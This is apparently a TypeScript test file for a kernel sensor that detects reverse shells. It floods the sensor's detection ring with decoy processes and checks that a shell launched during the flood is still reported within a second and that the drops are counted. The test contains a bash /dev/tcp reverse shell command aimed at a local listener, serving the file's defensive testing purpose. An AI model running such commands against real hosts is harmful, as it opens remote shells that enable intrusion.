/**
 * A local user floods the detection ring with large records: decoy shells with a loopback
 * socket on stdin exec /bin/true with ~8 KB of arguments in a loop, so every exec is a ~9 KB
 * detection-ring record (a program started with an inet socket on stdio). A real reverse shell
 * started in the middle must still reach the sensor's subscribers within 1 s, and what the
 * kernel dropped must be counted, by ring and reason.
 */
import { spawn, type ChildProcess } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Engine, ProcessTable, builtinRules, openSensorSync, type Sensor, type SensorEvent } from "sockeye";
import { kernelTier, tcpListener, type TcpListener } from "./harness.js";

const tier = kernelTier();

const DECOYS = 6;
/** 2,000 arguments of 3 bytes: about 8 KB of argv, near the 8 KiB the kernel keeps per exec. */
const DECOY_ARGS = Array.from({ length: 2000 }, () => "aaa").join(" ");

describe.runIf(tier.run)("kernel: detection ring flood", () => {
  let sensor: Sensor;
  let listener: TcpListener;
  const arrivals: { event: SensorEvent; atMs: number }[] = [];
  const decoys: ChildProcess[] = [];

  beforeAll(async () => {
    sensor = openSensorSync({ detectionRingBytes: 1 << 16 });
    // The daemon's work per event (process table, built-in rules) behind the subscriber, so the
    // flood costs JavaScript what it costs the daemon.
    const processes = new ProcessTable();
    processes.seedFromProc();
    const engine = new Engine({ rules: builtinRules(), processes });
    sensor.subscribe((events) => {
      for (const event of events) {
        engine.handle(event);
        if (event.kind === "socket_dup") arrivals.push({ event, atMs: Date.now() });
      }
    });
    listener = await tcpListener();
  });
  afterAll(async () => {
    for (const d of decoys) if (d.pid) try { process.kill(-d.pid, "SIGKILL"); } catch { /* gone */ }
    await sensor?.close();
    await listener?.close();
  });

  it("a bash /dev/tcp shell started during the flood is delivered within 1 s, and the drops are counted", async () => {
    for (let i = 0; i < DECOYS; i++) {
      decoys.push(spawn("bash", ["-c", `exec 0<>/dev/tcp/127.0.0.1/${listener.port}; set -- ${DECOY_ARGS}; while :; do /bin/true "$@"; done`], {
        detached: true, stdio: ["ignore", "ignore", "ignore"],
      }));
    }
    // The flood is on once the kernel has dropped exec records for want of room. How fast six
    // decoys fill the ring depends on the machine; where the reader keeps up, the event loop
    // is held for a moment (as a slow consumer would be) so the queue to it fills and the
    // ring behind it too, on any machine.
    const floodDeadline = Date.now() + 10_000;
    const pause = new Int32Array(new SharedArrayBuffer(4));
    while (sensor.ringDrops().detection.total === 0 && Date.now() < floodDeadline) {
      await new Promise((r) => setTimeout(r, 200));
      if (sensor.ringDrops().detection.total === 0) Atomics.wait(pause, 0, 0, 500);
    }
    expect(sensor.ringDrops().detection.total).toBeGreaterThan(0);

    const shellFarewell = await tcpListener("127.0.0.1", "exit\n");
    const startedMs = Date.now();
    const shell = spawn("bash", ["-c", `bash -i >& /dev/tcp/127.0.0.1/${shellFarewell.port} 0>&1`], { stdio: "ignore" });
    const isShellDup = (e: SensorEvent) => e.kind === "socket_dup" && e.remote?.port === shellFarewell.port && e.newfd <= 2;
    const deadline = Date.now() + 3_000;
    while (!arrivals.some((a) => isShellDup(a.event)) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 10));
    shell.kill("SIGKILL");
    await shellFarewell.close();
    for (const d of decoys) if (d.pid) try { process.kill(-d.pid, "SIGKILL"); } catch { /* gone */ }

    const first = arrivals.find((a) => isShellDup(a.event));
    expect(first, "the shell's dup onto stdio never reached the subscriber").toBeDefined();
    expect(first!.atMs - startedMs).toBeLessThan(1_000);
    const drops = sensor.ringDrops();
    expect(drops.detection.total).toBeGreaterThan(0);
    // Shed by admission (large records past their share, or past their uid's one per window),
    // never for want of room: dup and connect records always found some.
    const shed = drops.detection.byReason.large_share + drops.detection.byReason.source_share;
    expect(shed).toBeGreaterThan(0);
    expect(drops.detection.byReason.ring_full).toBe(0);
    const counters = sensor.counters();
    expect(counters.socket_dup.lost).toBe(0);
    expect(counters.exec.lost).toBe(shed);
  });
});
